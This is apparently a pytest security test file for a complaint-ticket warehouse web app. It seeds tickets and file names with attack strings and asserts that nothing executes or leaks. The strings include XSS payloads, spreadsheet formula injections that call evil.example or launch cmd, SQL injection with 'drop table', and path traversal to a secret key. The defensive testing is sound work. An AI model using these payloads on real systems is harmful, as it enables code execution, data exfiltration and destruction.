"""A hostile corpus in a city of its own, behind a server with sign-in; and people who note whatever it sends them."""

from __future__ import annotations

import csv
import io
import re
import shutil
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import sqlalchemy as sa

from pages._shared.access import who
from tests.browser.served import Visit, chrome, serve
from tests.conftest import command
from tests.people import signed_in
from tests.sharing import once
from warehouse import audit, ops

RUN = "window.__ran=1"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f'"><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"[投诉](javascript:{RUN})",
    "![x](http://evil.example/leak.png)",
    "$\\href{javascript:" + RUN + "}{x}$",
    ":material/lock: :red[x] <b onmouseover=" + RUN + ">x</b>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
    "-1+1", "\t=1+1", "＝1+1",
)  # fmt: skip
QUERIES = (
    "' or 1=1 --", "321003'; drop table fact_ticket; --", "\" union select cust_key from fact_ticket --",
    "321003) or (1=1", "%27%20or%201=1", "${7*7}{{7*7}}", "\x00\x1b[31m", "../../secret.key", "x" * 3000,
)  # fmt: skip
NAMES = ("region", "type", "period", "id", "view", "part")
HEAD, FIRST_ID = 4, 950_001
PHONE = "138" + "001370"  # and two more digits
CORPUS = (*SCRIPTS, *FORMULAS, *QUERIES[:4], f"请回电 {PHONE}88 或 <b>{PHONE}</b>77")
TICKET = re.compile(rb"YZ20\d{12}")
# Where free text of a complaint goes in: columns of the export, by their place.
TEXTS = {"投诉内容", "投诉街镇", "投诉地点", "终端型号", "套餐", "原因三级", "投诉现象三级", "未解决原因", "超时原因"}


class Served(NamedTuple):
    base: str
    store: sa.Engine
    browser: Any
    home: Path
    log: Path


def make(home: Path, demo_home: Path) -> None:
    """A city of 200 tickets, some of which hold the corpus in every text; loaded and built as any other."""
    command(home, "etl", "init", "demo")
    lines = (demo_home / "inbox" / "投诉工单_202503.csv").read_bytes().decode("gb18030").splitlines()
    header, plain = lines[HEAD - 1], [line for line in lines[HEAD:] if ",2025-03-2" in line][-200:]
    good = next(line for line in reversed(plain) if '"投诉","普通"' in line)
    (home / "inbox").mkdir(exist_ok=True)
    for n, name in enumerate(("投诉工单_202503.csv", "投诉工单_202503_<img src=x onerror=window.__ran=1>&'; drop.csv")):
        out = io.StringIO()
        if n == 0:
            print(*lines[:HEAD], *plain, sep="\r\n", end="\r\n", file=out)
        else:
            print(*lines[:HEAD], sep="\r\n", end="\r\n", file=out)
            columns = header.split(",")
            for k, told in enumerate(CORPUS):
                row = next(csv.reader([good]))
                row = [told if c in TEXTS else v for c, v in zip(columns, row, strict=True)]
                row[0], row[2] = f"YZ20250328{FIRST_ID + k}", f"{PHONE}{k:02d}"
                row[3] = f"2025-03-28 0{k % 9}:10:00"
                csv.writer(out).writerow(row)
        (home / "inbox" / name).write_text(out.getvalue(), encoding="utf-8")
    # One that cannot be read: only a card of what went wrong names a file.
    (home / "inbox" / "投诉工单_202504_<img src=x onerror=window.__ran=1>.csv").write_bytes(b"")
    command(home, "etl", "load", allowed=(0, 1, 3))
    command(home, "warehouse", "build")


@pytest.fixture(scope="module")
def hostile(demo_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A copy of that city for the tests of a file, with a store of its own."""
    folder = tmp_path_factory.mktemp("hostile")
    home = folder / "home"
    shutil.copytree(once(tmp_path_factory, "hostile-city", lambda made: make(made, demo_home)), home)
    url = f"sqlite:///{folder / 'ops.db'}"
    store = ops.open_ops(url)
    with serve(home, folder / "log", LOOKOUT_OPS_URL=url, LOOKOUT_SIGN_IN="local") as base, chrome() as browser:
        yield Served(base, store, browser, home, folder / "log")
        assert audit.verify(store).fault is None, "whatever was tried, the trail is whole"
        said = (folder / "log").read_text(encoding="utf-8")
        assert PHONE not in said and "token-" not in said and (home / "secret.key").read_bytes().hex() not in said


def now() -> datetime:
    return datetime.now(UTC).replace(tzinfo=None)


class Person:
    """Somebody signed in with a window of his own, who notes whatever the server sends: pages, files, frames."""

    def __init__(self, served: Served, name: str, role: Any, regions: list[str] | None = None) -> None:
        self.served, self.name = served, name
        self.token = signed_in(served.store, name, role, now(), regions)
        self.visit = Visit(served.browser, served.base)
        self.visit.context.add_cookies([{"name": who.COOKIE, "value": self.token, "url": served.base}])
        self.frames: list[bytes] = []
        self.dialogs: list[str] = []
        page = self.visit.page
        page.on("websocket", lambda s: s.on("framereceived", lambda f: self.frames.append(_bytes(f))))
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))

    def open(self, link: str) -> str:
        """The words of a page, after it was found that nothing ran and nothing left the machine."""
        self.visit.open(link)
        return self.harmless()

    def harmless(self) -> str:
        for frame in self.visit.page.frames:
            assert frame.evaluate("window.__ran === undefined"), f"something ran at {self.visit.page.url}"
        assert self.dialogs == [] and self.visit.faults == []
        assert self.visit.page.locator('[data-testid="stException"]').count() == 0
        return str(self.visit.page.inner_text("body"))

    @property
    def tickets(self) -> set[str]:
        """Numbers of tickets in all that the server sent."""
        return {number.decode() for told in self.frames for number in TICKET.findall(told)}

    def rows(self, kind: str = "") -> list[dict[str, Any]]:
        return audit.search(self.served.store, kinds=[kind] if kind else [], actor=self.name, size=500)[0]

    def close(self) -> None:
        """Nothing that was sent holds what nobody may see."""
        self.visit.close()
        secret = (self.served.home / "secret.key").read_bytes()
        for told in self.frames:
            assert PHONE.encode() not in told and secret not in told and secret.hex().encode() not in told
            assert b"Traceback" not in told and str(self.served.home).encode() not in told


def _bytes(frame: Any) -> bytes:
    payload = getattr(frame, "payload", frame)
    return payload if isinstance(payload, bytes) else str(payload).encode()


def ask(
    served: Served, path: str, token: str = "", method: str = "GET", body: bytes | None = None, **headers: str
) -> int:
    """The status of a request made by hand, as a browser would never send it."""
    told = {k.replace("_", "-"): v for k, v in headers.items()}
    if token:
        told["Cookie"] = f"{who.COOKIE}={token}" + (f"; {told.pop('Cookie')}" if "Cookie" in told else "")
    request = urllib.request.Request(served.base + path, body, told, method=method)
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            assert b"secret" not in answer.read().lower() or path.endswith(".js")
            return int(answer.status)
    except urllib.error.HTTPError as error:
        assert b"Traceback" not in error.read()
        return error.code


def refusals(served: Served, actor: str = "") -> list[str]:
    return [r["subject"] for r in audit.search(served.store, kinds=["refused"], actor=actor, size=500)[0]]
